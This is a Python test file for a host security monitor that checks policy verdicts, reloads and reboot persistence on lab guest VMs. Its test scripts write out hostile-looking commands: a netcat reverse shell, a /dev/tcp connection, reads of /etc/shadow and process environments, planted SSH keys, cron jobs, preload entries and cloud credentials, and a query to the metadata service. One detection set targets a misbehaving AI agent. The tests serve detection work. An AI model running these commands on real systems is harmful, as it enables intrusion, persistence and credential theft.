"""Policies on real kernels: each verb, wherever it is judged; reading again while it is in force; the ready sets."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

import vmon
from tests.guest.conftest import Guests
from vmon.core.detection import Detection
from vmon.lab.guest import LabGuest

KERNELS = ("6.1", "7.2")
PROGRAM = "from vmon.cli import main; main()"
WAIT_S = 60.0


@pytest.fixture(scope="module", params=KERNELS)
def guest(request: pytest.FixtureRequest, guests: Guests) -> LabGuest:
    return guests.get(request.param)


class Guard:
    """`vmon guard` on a guest, as a process of its own."""

    def __init__(self, guest: LabGuest, policy: str, folder: Path, *options: str) -> None:
        self._out, self._err = folder / "out", folder / "err"
        command = [sys.executable, "-c", PROGRAM, "guard", guest.name, policy, "-o", "jsonl", *options]
        with self._out.open("w") as out, self._err.open("w") as err:
            self.process = subprocess.Popen(command, stdout=out, stderr=err, text=True)
        self.wait_for(lambda: "are in force" in self.said, "the rules to be in force")

    @property
    def said(self) -> str:
        return self._err.read_text()

    @property
    def told(self) -> list[Detection]:
        lines = self._out.read_text().splitlines(keepends=True)
        whole = [line for line in lines if line.endswith("\n") and '"rule":{' in line]
        return [msgspec.json.decode(line, type=Detection) for line in whole]

    def titles(self) -> list[str]:
        return [found.rule.title for found in self.told]

    def of(self, title: str) -> Detection:
        self.wait_for(lambda: title in self.titles(), title)
        return next(found for found in self.told if found.rule.title == title)

    def wait_for(self, done: Any, what: str) -> None:
        deadline = time.monotonic() + WAIT_S
        while not done():
            assert self.process.poll() is None, (what, self.said)
            assert time.monotonic() < deadline, (what, self.said, self.titles())
            time.sleep(0.05)

    def end(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGINT)
            self.process.wait(WAIT_S)


@pytest.fixture
def guard(guest: LabGuest, vm: vmon.VirtualMachine, tmp_path: Path) -> Iterator[Any]:
    found: list[Guard] = []

    def start(policy: str, *options: str) -> Guard:
        found.append(Guard(guest, policy, tmp_path, *options))
        return found[-1]

    yield start
    for one in found:
        one.end()
    # A quarantine outlives the command that began it.
    vm.remove_probe()


VERBS = """
mode: enforce
rules:
  - {title: regex, event: file.open, file.path|re: ^/etc/host.*s$, process.name: cat, do: deny, fallback: allow}
  - title: shadow
    event: file.open
    file.path: /etc/shadow
    unless: {process.executable: [/usr/bin/passwd, /usr/bin/su]}
    do: deny
    errno: EACCES
  - {title: arguments, event: process.exec, process.args: forbidden, do: kill, fallback: allow}
  - {title: asked, event: file.unlink, file.path: /tmp/asked, do: ask, fallback: allow}
  - {title: killed, event: file.create, file.path: /tmp/killed, do: kill}
  - {title: suspended, event: file.create, file.path|glob: /tmp/suspended*, do: suspend}
  - {title: quarantined, event: file.create, file.path|glob: /tmp/quarantined*, do: quarantine}
  - {title: signalled, event: process.signal, vmon.signal: 10, vmon.target.executable|endswith: busybox, do: log}
  - {title: observed, event: file.mkdir, file.path: /tmp/observed, do: deny, mode: observe}
  - {title: parent, event: process.exec, process.parent.command_line|contains: the-parent, do: log}
  - {title: replaced, event: file.rename, file.name: victim, do: log, rate: 1/1h}
  - {title: fine, event: file.mkdir, file.path: /tmp/fine, do: allow}
  - {title: made, event: file.mkdir, file.path|startswith: /tmp/, do: log}
"""
DEEDS = r"""
cat /etc/shadow; cat /etc/hosts && echo read; head -1 /etc/hosts >/dev/null && echo head
/bin/echo forbidden; /bin/echo fine
touch /tmp/asked; rm /tmp/asked || echo kept
sh -c 'echo >/tmp/killed; echo survived'
sh -c 'echo >/tmp/quarantined1; i=0; while [ $i -lt 300 ] && /bin/true; do i=$((i+1)); done; echo looped $i'
sleep 100 & kill -USR1 $!
mkdir /tmp/observed /tmp/fine /tmp/made; rmdir /tmp/observed /tmp/fine /tmp/made
sh -c '/bin/true the-child; :' the-parent
touch /tmp/a; mv /tmp/a /tmp/victim; mv /tmp/victim /tmp/a; rm -f /tmp/a /tmp/killed /tmp/asked /tmp/quarantined1
"""


def test_each_verb(guest: LabGuest, guard: Any, vm: vmon.VirtualMachine, tmp_path: Path) -> None:
    policy = tmp_path / "p.yaml"
    policy.write_text(VERBS)
    watch = guard(str(policy), "--answer", "deny")
    done = guest.run(DEEDS, timeout_s=60)
    said, wrong = done.text, done.err.decode()
    assert "read" not in said
    assert "survived" not in said
    assert {"head", "fine", "kept"} <= set(said.split())
    assert "forbidden" not in said
    assert wrong.count("ermission denied") + wrong.count("not permitted") >= 3, wrong
    assert "looped 300" not in said, "it may start nothing any more"
    titles = ("regex", "shadow", "arguments", "asked", "killed", "quarantined", "signalled", "observed")
    for title in (*titles, "parent", "replaced", "made"):
        watch.of(title)
    assert (watch.of("regex").event.verdict, watch.of("shadow").event.verdict) == ("denied", "denied")
    assert watch.of("asked").event.verdict == "denied"
    assert (watch.of("arguments").event.verdict, watch.of("killed").event.verdict) == ("killed", "killed")
    assert watch.of("arguments").event.cmdline == ["/bin/echo", "forbidden"]
    assert (watch.of("quarantined").done, watch.of("observed").done) == ("done", "would")
    assert watch.of("parent").event.cmdline is not None
    assert "fine" not in watch.titles()
    # Of a process that is stopped nobody hears any more.
    guest.run(
        "sh -c 'echo >/tmp/suspended1; sleep 1; while :; do sleep 1; done' >/dev/null 2>&1 &", timeout_s=20
    )
    stopped = watch.of("suspended")
    assert stopped.done == "done", stopped.reason
    watch.wait_for(lambda: vm.process(stopped.event.pid).record().state == "T", "the process to stop")
    vm.signal(stopped.event.pid, signal.SIGKILL, key=stopped.event.key)
    watch.end()
    assert "not told: 1 more of 'replaced'" in watch.said


@pytest.mark.parametrize("again", ["the file changes", "SIGHUP"])
def test_it_is_read_again_with_no_moment_without(
    guest: LabGuest, guard: Any, vm: vmon.VirtualMachine, tmp_path: Path, again: str
) -> None:
    policy = tmp_path / "p.yaml"
    shadow = "  - {title: shadow, event: file.open, file.path: /etc/shadow, do: deny, rate: 1/1h}\n"
    policy.write_text("mode: enforce\nrules:\n" + shadow)
    watch = guard(str(policy))
    script = "i=0; while [ ! -e /tmp/stop ]; do cat /etc/shadow 2>/dev/null && echo LEAKED; i=$((i+1)); done"
    guest.run(f"rm -f /tmp/stop /tmp/log; ({script}; echo $i tries) >/tmp/log 2>&1 &", timeout_s=20)
    for number in range(6):
        more = f"  - {{title: more {number}, event: file.mkdir, file.path: /tmp/more{number}, do: log}}\n"
        policy.write_text("mode: enforce\nrules:\n" + (shadow + more if number % 2 else more + shadow))
        if again == "SIGHUP":
            watch.process.send_signal(signal.SIGHUP)
        watch.wait_for(lambda number=number: watch.said.count("read again") > number, "it to be read again")
        guest.run(f"mkdir /tmp/more{number}; rmdir /tmp/more{number}", timeout_s=20)
        assert watch.of(f"more {number}").event.path == f"/tmp/more{number}"
    policy.write_text("mode: enforce\nrules:\n  - {title: x, event: file.opn, do: log}\n")
    watch.wait_for(lambda: "kept as it was" in watch.said, "the mistake to be told")
    assert "there is no event 'file.opn' (did you mean file.open?)" in watch.said
    assert [record.rule.path for record in vm.rules() if record.rule.action == "deny"] == ["/etc/shadow"]
    log = guest.run(
        "touch /tmp/stop; until grep tries /tmp/log; do sleep 0.1; done; grep -c LEAKED /tmp/log",
        timeout_s=60,
    ).text.split()
    assert int(log[0]) > 0
    assert log[-1] == "0"
    assert "other rules are in force" not in watch.said


PLANTED = r"""
echo /x.so >/etc/ld.so.preload; rm -f /etc/ld.so.preload
cp /etc/passwd /tmp/p; cat /tmp/p >/etc/passwd; mv /tmp/p /etc/passwd
mkdir -p /etc/sudoers.d; echo x >/etc/sudoers.d/y; rm -r /etc/sudoers.d
mkdir -p /dev/shm; cp /bin/busybox /dev/shm/busybox && /dev/shm/busybox true; rm -f /dev/shm/busybox
cp /bin/busybox /tmp/busybox; /tmp/busybox true; rm /tmp/busybox
mkdir -p /etc/cron.d; echo x >/etc/cron.d/y; rm -r /etc/cron.d
mkdir -p /etc/systemd/system; echo x >/etc/systemd/system/y.service; rm -r /etc/systemd
mkdir -p /root/.ssh; echo x >/root/.ssh/authorized_keys; rm -r /root/.ssh
cat /etc/shadow >/dev/null; /lab/unfiled
/bin/busybox nc 127.0.0.1 9 -e /bin/sh </dev/null >/dev/null 2>&1
sh -c ': </dev/tcp/127.0.0.1/9' 2>/dev/null
"""
SERVER = {
    *("preload-opened", "preload-written", "accounts-written", "accounts-replaced", "exec-from-shm"),
    *("exec-from-tmp", "cron", "systemd-units", "authorized-keys", "authorized-keys-written", "shadow-read"),
    *("reverse-shell", "exec-from-memory", "ptrace-attach"),
}
AGENT_DEEDS = r"""
mkdir -p /root/.ssh /root/.aws /tmp/m /etc/cron.d; echo x >/root/.ssh/id_test; cat /root/.ssh/id_test >/dev/null
echo x >/root/.aws/credentials; cat /etc/shadow >/dev/null; cat /proc/1/environ >/dev/null
nc -w 1 169.254.169.254 80 </dev/null; mount -t tmpfs none /tmp/m && umount /tmp/m
echo x >/etc/cron.d/y; echo x >/root/.profile; rm -r /root/.ssh /root/.aws /etc/cron.d /root/.profile /tmp/m
cp /bin/busybox /tmp/su; /tmp/su true; mv /tmp/su /tmp/pip; /tmp/pip true; rm /tmp/pip; /lab/unfiled
/bin/busybox nc 127.0.0.1 9 -e /bin/sh </dev/null >/dev/null 2>&1
"""
AGENT = {
    *("ssh-keys", "cloud-credentials", "password-hashes", "other-environments", "metadata-service", "mount"),
    *("persistence", "login-scripts", "more-rights", "package-install", "reverse-shell"),
    *("exec-from-memory", "ptrace-attach"),
}


@pytest.mark.parametrize(
    ("name", "deeds", "expected"), [("linux-server", PLANTED, SERVER), ("ai-agent", AGENT_DEEDS, AGENT)]
)
def test_a_ready_set(
    guest: LabGuest, guard: Any, tmp_path: Path, name: str, deeds: str, expected: set[str]
) -> None:
    watch = guard(name)
    # What the guest does all the time, and a person who looks around.
    guest.run(
        "ls / /etc; cat /etc/hosts /proc/1/stat; ps; df; echo x >/tmp/x; rm /tmp/x; sleep 2", timeout_s=60
    )
    assert watch.titles() == []
    guest.run(deeds, timeout_s=60)
    watch.wait_for(lambda: expected <= {found.rule.id for found in watch.told}, "each deed to be told")
    assert {found.done for found in watch.told if found.verb != "log"} == {"would"}
    assert all(found.rule.severity and found.rule.attack for found in watch.told)


KEPT = """
mode: enforce
rules:
  - {title: of one boot, event: file.open, process.entity_id: 1@1, file.path: /none, do: deny}
  - {title: regex, event: file.open, file.path|re: ^/etc/hos.s$, process.name: cat, do: deny, fallback: allow}
  - {title: shadow, event: file.open, file.path: /etc/shadow, do: deny}
"""


def test_after_a_reboot_it_is_in_force_again(tmp_path: Path) -> None:
    name = f"policy-{os.getpid()}"
    policy = tmp_path / "p.yaml"
    policy.write_text(KEPT)
    with LabGuest.up(name, kernel="7.2", cpus=2, allow_reboot=True) as machine:
        watch = Guard(machine, str(policy), tmp_path, "--persist")
        try:
            machine.run("(sleep 0.2; reboot -f) >/dev/null 2>&1 &")
            watch.wait_for(lambda: "installed: " in watch.said, "the guest to come back")
            machine.wait_ready()
            done = machine.run("cat /etc/shadow; cat /etc/hosts; head -1 /etc/hosts >/dev/null && echo fine")
            assert done.text.split() == ["fine"], done.err
            # Its rules have other numbers by now: each is told by its own title.
            assert watch.of("shadow").event.path == "/etc/shadow"
            assert watch.of("regex").event.path == "/etc/hosts"
            policy.write_text(KEPT.replace("title: regex", "title: another"))
            watch.wait_for(lambda: "read again" in watch.said, "it to be read again")
            machine.run("cat /etc/hosts")
            assert watch.of("another").event.verdict == "denied"
        finally:
            watch.end()
